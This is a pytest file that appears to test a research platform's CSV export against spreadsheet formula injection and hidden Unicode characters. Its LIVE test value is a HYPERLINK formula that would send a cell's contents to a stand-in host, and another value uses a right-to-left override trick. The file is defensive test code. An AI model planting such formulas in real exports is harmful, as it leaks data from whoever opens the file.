"""A study's exports are safe to open in a spreadsheet: a text cell that would run as a formula
(OWASP's CSV injection rule: it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return) is written after a ``'``; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from dealroom.protocol.study_rows import EventRow
from dealroom.server.study_export import csv_text

LIVE = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click me")'


@pytest.mark.parametrize("text", [LIVE, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    row = EventRow(
        study="s", key="k/1", seq=1, t=-0.5, type="message_sent", role="buyer", by="p01",
        offer_id=None, price=Decimal("-3.00"), text=text, end_reason=None,
    )  # fmt: skip
    (read,) = csv.DictReader(io.StringIO(csv_text(EventRow, [row])))
    assert read["text"] == "'" + text
    assert (read["price"], read["t"]) == ("-3.00", "-0.5")  # numbers stay numbers


def test_ordinary_text_is_written_as_it_is() -> None:
    row = EventRow(
        study="s", key="k/1", seq=1, t=1.0, type="message_sent", role="buyer", by="p01",
        offer_id=None, price=None, text="Deal at 12? = fair", end_reason=None,
    )  # fmt: skip
    (read,) = csv.DictReader(io.StringIO(csv_text(EventRow, [row])))
    assert read["text"] == "Deal at 12? = fair"


def test_bidirectional_and_zero_width_characters_are_written_escaped() -> None:
    row = EventRow(
        study="s", key="k/1", seq=1, t=1.0, type="message_sent", role="buyer", by="p01",
        offer_id=None, price=None, text="=pay \u202e0001$\u200b", end_reason=None,
    )  # fmt: skip
    (read,) = csv.DictReader(io.StringIO(csv_text(EventRow, [row])))
    assert read["text"] == "'=pay \\u202e0001$\\u200b"
